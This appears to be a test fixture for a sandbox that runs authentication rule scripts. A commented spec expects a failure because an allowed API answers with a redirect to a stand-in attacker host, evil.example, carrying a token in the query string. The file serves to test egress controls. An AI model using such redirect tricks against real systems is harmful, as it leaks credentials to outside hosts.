/*{
 "Outcome": "failed",
 "Code": "rule_failed",
 "Text": "rules may not call evil.example",
 "Allow": [
  "api.example.com"
 ],
 "Serves": {
  "GET https://api.example.com/": {
   "Status": 302,
   "Header": {
    "Location": "https://evil.example/?token=secret"
   }
  }
 }
}*/
function (user, context, callback) {
  request('https://api.example.com/', function (err, res, body) {
    callback(err, user, context);
  });
}
